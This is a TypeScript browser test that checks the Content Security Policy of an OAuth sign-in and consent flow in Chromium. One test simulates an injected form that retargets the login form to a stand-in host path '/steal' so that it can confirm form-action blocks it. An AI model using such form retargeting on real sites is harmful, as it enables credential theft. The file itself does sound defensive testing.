/**
 * The sign-in and consent pages in a real browser (Debian's Chromium): their CSP has `form-action 'self'` plus the
 * origin of the authorization's redirect URI, because Chromium applies form-action to every redirect after a form
 * submission, and the Approve form ends in a redirect to the client. The whole flow must reach the client with no
 * CSP violation, and a form aimed anywhere else must be blocked.
 */
import { createServer, type Server } from 'node:http';
import * as client from 'openid-client';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_EMAIL, DEMO_PASSWORD, listen, type ListeningService } from '../account-helpers.js';
import { chromiumAvailable, launchChromium } from '../views/browser.js';

// CI installs Chromium (.ci/run) and must not skip; elsewhere a machine without it skips with this reason.
const skip = !chromiumAvailable() && !process.env.CI;
if (skip)
  process.stderr.write(
    'test/auth/sign-in-chromium.test.ts: /usr/bin/chromium is missing (apt-get install -y chromium); skipping the browser tests\n',
  );

const insecure = { execute: [client.allowInsecureRequests] };

/** The client's redirect URI: a loopback listener that records what arrives. */
async function callbackListener(): Promise<{ url: string; hits: URL[]; close: () => Promise<void> }> {
  const hits: URL[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(new URL(req.url ?? '/', 'http://127.0.0.1'));
    res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>back in the app</title><p>Done');
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  return {
    url: `http://127.0.0.1:${port}/callback`,
    hits,
    close: () => new Promise((done) => server.close(() => done())),
  };
}

describe.skipIf(skip)('sign-in and consent in Chromium', () => {
  let svc: ListeningService;
  let app: Awaited<ReturnType<typeof callbackListener>>;
  let browser: Awaited<ReturnType<typeof launchChromium>>;
  beforeAll(async () => {
    svc = await listen();
    app = await callbackListener();
    browser = await launchChromium();
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await app?.close();
    await svc?.stop();
  });

  async function authorizationUrl(): Promise<{ url: URL; verifier: string; config: client.Configuration }> {
    const config = await client.dynamicClientRegistration(
      new URL(svc.baseUrl),
      {
        redirect_uris: [app.url],
        token_endpoint_auth_method: 'none',
        grant_types: ['authorization_code'],
        response_types: ['code'],
        client_name: 'Chromium test',
      },
      client.None(),
      insecure,
    );
    const verifier = client.randomPKCECodeVerifier();
    const url = client.buildAuthorizationUrl(config, {
      redirect_uri: app.url,
      scope: 'openid',
      code_challenge: await client.calculatePKCECodeChallenge(verifier),
      code_challenge_method: 'S256',
      state: 'chromium-state',
    });
    return { url, verifier, config };
  }

  function cspViolations(page: Page): string[] {
    const violations: string[] = [];
    page.on('console', (message) => {
      if (message.text().includes('Content Security Policy')) violations.push(message.text());
    });
    return violations;
  }

  it('signs in, approves and lands on the redirect URI with a code, with no CSP violation', async () => {
    const { url, verifier, config } = await authorizationUrl();
    const page = await browser.context.newPage();
    const violations = cspViolations(page);
    const signIn = await page.goto(url.href);
    const policy = signIn!.headers()['content-security-policy'];
    expect(policy).toContain(`form-action 'self' ${new URL(app.url).origin}`);
    // Not a page of the website: no site script (no in-page tools) on the sign-in page, nor on the consent page.
    expect(await signIn!.text()).not.toContain('<script');
    expect(await page.evaluate(() => document.scripts.length)).toBe(0);
    await page.fill('#email', DEMO_EMAIL);
    await page.fill('#password', DEMO_PASSWORD);
    await Promise.all([page.waitForURL(/\/interaction\//), page.click('button[value=sign_in]')]);
    expect(await page.textContent('h1')).toContain('Allow');
    expect(await page.content()).not.toContain('<script');
    expect(await page.evaluate(() => document.scripts.length)).toBe(0);
    await Promise.all([page.waitForURL(`${app.url}?**`), page.click('button[value=approve]')]);
    expect(await page.textContent('p')).toBe('Done');
    expect(violations).toEqual([]);
    const callback = app.hits.find((hit) => hit.pathname === '/callback')!;
    expect(callback.searchParams.get('state')).toBe('chromium-state');
    const tokens = await client.authorizationCodeGrant(config, new URL(`${app.url}${callback.search}`), {
      pkceCodeVerifier: verifier,
      expectedState: 'chromium-state',
    });
    expect(tokens.access_token).toMatch(/^ey/);
    await page.close();
  });

  it('a form on the page aimed at another origin is blocked by form-action', async () => {
    const { url } = await authorizationUrl();
    const page = await browser.context.newPage();
    const violations = cspViolations(page);
    await page.goto(url.href);
    const before = app.hits.length;
    // What an injected form would do: post the credentials somewhere else.
    await page.evaluate(() => {
      const form = document.querySelector('form')!;
      form.action = 'http://127.0.0.2:9/steal';
      form.submit();
    });
    await page.waitForTimeout(500);
    expect(page.url()).toContain('/interaction/');
    expect(violations.some((text) => text.includes('form-action'))).toBe(true);
    expect(app.hits.length).toBe(before);
    await page.close();
  });
});
